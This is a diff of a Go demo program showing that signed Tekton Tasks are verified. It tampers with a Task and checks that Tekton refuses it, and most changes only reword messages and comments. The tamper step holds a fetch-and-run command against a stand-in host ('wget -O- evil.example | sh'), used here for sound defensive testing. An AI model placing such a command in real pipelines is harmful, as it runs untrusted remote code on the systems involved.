@@ -30,12 +30,12 @@ import (
 
 const (
 	demoNamespace = "demo"
-	demoTask      = "build" // of config/samples
+	demoTask      = "build" // a Task in config/samples
 	demoWait      = time.Minute
 )
 
-// demonstration is one run of make demo: each step observes something and adds
-// a row to the table at the end.
+// demonstration is one run of make demo. Each step prints what it does and adds rows to
+// the table at the end.
 type demonstration struct {
 	*harness.Cluster
 	controller *harness.Controller
@@ -45,11 +45,12 @@ type demonstration struct {
 	rows       []row
 }
 
+// row compares an expected outcome with the observed one.
 type row struct{ what, expected, observed string }
 
 func demo(cmd *cobra.Command) (err error) {
 	ctx, out := cmd.Context(), cmd.OutOrStdout()
-	fmt.Fprintln(out, "Building the control plane (about 15 minutes the first time, then seconds)")
+	fmt.Fprintln(out, "Building the control plane (the first build takes about 15 minutes, later ones seconds)")
 	binaries, err := harness.Build(ctx, out)
 	if err != nil {
 		return err
@@ -76,10 +77,14 @@ func demo(cmd *cobra.Command) (err error) {
 			err = os.RemoveAll(dir)
 		}
 	}()
-	if err := d.play(ctx); err != nil {
-		return fmt.Errorf("%w; logs are in %s", err, filepath.Join(dir, "logs"))
+	if err = d.play(ctx); err == nil {
+		err = d.summary()
 	}
-	return d.summary()
+	if err != nil {
+		return fmt.Errorf("%w; see the logs in %s", err, filepath.Join(dir, "logs"))
+	}
+	fmt.Fprintln(out, "\nNext: make cluster-up starts such a cluster, leaves it running, and prints how to use it.")
+	return nil
 }
 
 func (d *demonstration) play(ctx context.Context) error {
@@ -87,15 +92,15 @@ func (d *demonstration) play(ctx context.Context) error {
 		title string
 		do    func(context.Context) error
 	}{
-		{"Starting the controller with a new key, as its own service account", d.install},
-		{"Applying config/samples/ with kubectl", d.apply},
-		{"Tekton runs the signed Task under an enforce policy, through its cluster resolver", d.runSigned},
-		{"The same Task is in a registry, in a signed bundle", d.stored},
-		{"Stopping the controller, and tampering with the Task", d.tamper},
-		{"Tekton is asked to run the Task that was tampered with", d.runTampered},
-		{"Tekton runs what is in the registry, which is as it was signed", d.runStored},
-		{"Tekton is asked to run it by its name, without a resolver", d.runLocal},
-		{"The same with config/admission, which gives such references a resolver", d.runAdmitted},
+		{"Starting the controller with a new key and the permissions of config/", d.install},
+		{"Creating the resources in config/samples/ with kubectl: the controller signs them", d.apply},
+		{"Running the signed Task through Tekton's cluster resolver, under an enforce policy", d.runSigned},
+		{"Finding the same Task in a registry, as a signed bundle", d.stored},
+		{"Stopping the controller and changing the script of the Task", d.tamper},
+		{"Running the changed Task: Tekton refuses it", d.runTampered},
+		{"Running the unchanged Task from the registry", d.runStored},
+		{"Running the changed Task by its name, without a resolver: Tekton does not verify it", d.runLocal},
+		{"Doing the same with config/admission, which adds a resolver to such references", d.runAdmitted},
 	} {
 		fmt.Fprintf(d.out, "\n%s\n", step.title)
 		if err := step.do(ctx); err != nil {
@@ -116,7 +121,7 @@ func (d *demonstration) install(ctx context.Context) error {
 		return err
 	}
 	settings := harness.SignAll()
-	settings["artifacts.oci.signer"] = "none" // Chains would push to a registry
+	settings["artifacts.oci.signer"] = "none" // otherwise Chains pushes image signatures to a registry
 	settings["artifacts.taskrun.format"] = "slsa/v2alpha4"
 	settings["trustedresources.provenance.enabled"] = "true"
 	if d.registry, err = harness.StartRegistry(ctx); err != nil {
@@ -140,7 +145,7 @@ func (d *demonstration) install(ctx context.Context) error {
 	if d.controller, err = d.AddController(ctx, "controller", secretsDir); err != nil {
 		return err
 	}
-	d.sayf("namespace %s is opted in; its VerificationPolicy trusts the new key and enforces", demoNamespace)
+	d.sayf("namespace %s is opted in; its VerificationPolicy enforces signatures of the new key", demoNamespace)
 	return nil
 }
 
@@ -157,8 +162,8 @@ func (d *demonstration) apply(ctx context.Context) error {
 			return err
 		}
 		what := fmt.Sprintf("%s %s", sample.kind, sample.name)
-		d.sayf("%-20s signed, and accepted by Tekton's verifier", what)
-		d.rows = append(d.rows, row{what + " applied", "signed", "signed"})
+		d.sayf("%-20s signed; Tekton's verifier accepts the signature", what)
+		d.rows = append(d.rows, row{what + " created", "signed", "signed"})
 	}
 	return nil
 }
@@ -173,9 +178,9 @@ func (d *demonstration) runSigned(ctx context.Context) error {
 	d.sayf("TaskRun %s: Tekton's condition TrustedResourcesVerified is %s", run.Name, verified.Status)
 	observed := "refused: " + succeeded.Reason
 	if succeeded.IsTrue() && verified.IsTrue() {
-		observed = "accepted, completes"
+		observed = "accepted, succeeded"
 	}
-	d.rows = append(d.rows, row{"TaskRun of the signed Task", "accepted, completes", observed})
+	d.rows = append(d.rows, row{"TaskRun of the signed Task", "accepted, succeeded", observed})
 
 	return d.attested(ctx, run.Name)
 }
@@ -192,7 +197,7 @@ func (d *demonstration) stored(ctx context.Context) error {
 		found, err := store.Find(ctx, oci.ID{Kind: resource.Task, Namespace: demoNamespace, Name: demoTask}, nil, trusted)
 		if err == nil {
 			d.sayf("%s", found.Reference)
-			d.sayf("bundle and Task are signed with key %s", found.Resources[0].Signer)
+			d.sayf("the bundle and the Task are signed with key %s", found.Resources[0].Signer)
 		}
 		return err
 	})
@@ -218,7 +223,7 @@ func (d *demonstration) tamper(ctx context.Context) error {
 	_, err := d.Tekton.TektonV1().Tasks(demoNamespace).Patch(ctx, demoTask, types.MergePatchType,
 		[]byte(`{"spec":{"steps":[{"name":"make","image":"docker.io/library/alpine:3.22","script":"wget -O- evil.example | sh"}]}}`), metav1.PatchOptions{})
 	if err == nil {
-		d.sayf("Task %s has another script now, and the signature from before", demoTask)
+		d.sayf("Task %s has another script and still the old signature", demoTask)
 	}
 	return err
 }
@@ -228,7 +233,7 @@ func (d *demonstration) runTampered(ctx context.Context) error {
 	if err != nil {
 		return err
 	}
-	d.verdict("TaskRun of the Task tampered with", refused, run)
+	d.verdict("TaskRun of the changed Task", refused, run)
 	return nil
 }
 
@@ -237,7 +242,7 @@ func (d *demonstration) runLocal(ctx context.Context) error {
 	if err != nil {
 		return err
 	}
-	d.verdict("The same by name, Tekton alone", accepted, run)
+	d.verdict("The same by name, without config/admission", accepted, run)
 	return nil
 }
 
@@ -249,7 +254,7 @@ func (d *demonstration) runAdmitted(ctx context.Context) error {
 	if err != nil {
 		return err
 	}
-	d.verdict("The same by name, with admission", refused, run)
+	d.verdict("The same by name, with config/admission", refused, run)
 	return nil
 }
 
@@ -258,7 +263,7 @@ const (
 	refused  = "refused, ResourceVerificationFailed"
 )
 
-// verdict adds a row about what Tekton made of a Task that was tampered with.
+// verdict adds a row that says whether Tekton has run the Task of a TaskRun.
 func (d *demonstration) verdict(what, expected string, run *v1.TaskRun) {
 	succeeded := run.Status.GetCondition(apis.ConditionSucceeded)
 	d.sayf("TaskRun %s: %s: %s", run.Name, succeeded.Reason, succeeded.Message)
@@ -269,8 +274,7 @@ func (d *demonstration) verdict(what, expected string, run *v1.TaskRun) {
 	d.rows = append(d.rows, row{what, expected, observed})
 }
 
-// until tries again until check returns nil, and otherwise returns its last
-// error.
+// until polls until check returns nil. After demoWait it returns the last error of check.
 func (d *demonstration) until(ctx context.Context, check func(context.Context) error) error {
 	var last error
 	if err := wait.PollUntilContextTimeout(ctx, 10*time.Millisecond, demoWait, true, func(ctx context.Context) (bool, error) {
@@ -286,25 +290,25 @@ func (d *demonstration) sayf(format string, args ...any) {
 	fmt.Fprintf(d.out, "  "+format+"\n", args...)
 }
 
-// summary prints the table, and is an error unless all was as expected.
+// summary prints the table. It returns an error if an outcome is not as expected.
 func (d *demonstration) summary() error {
 	fmt.Fprintln(d.out)
 	table := tabwriter.NewWriter(d.out, 0, 0, 2, ' ', 0)
-	fmt.Fprintln(table, "WHAT\tEXPECTED\tOBSERVED\t")
-	surprises := 0
+	fmt.Fprintln(table, "STEP\tEXPECTED\tOBSERVED\t")
+	mismatches := 0
 	for _, r := range d.rows {
 		mark := "ok"
 		if r.expected != r.observed {
 			mark = "NOT OK"
-			surprises++
+			mismatches++
 		}
 		fmt.Fprintf(table, "%s\t%s\t%s\t%s\n", r.what, r.expected, r.observed, mark)
 	}
 	if err := table.Flush(); err != nil {
 		return err
 	}
-	if surprises > 0 {
-		return fmt.Errorf("%d of %d were not as expected", surprises, len(d.rows))
+	if mismatches > 0 {
+		return fmt.Errorf("%d of %d outcomes were not as expected", mismatches, len(d.rows))
 	}
 	return nil
 }
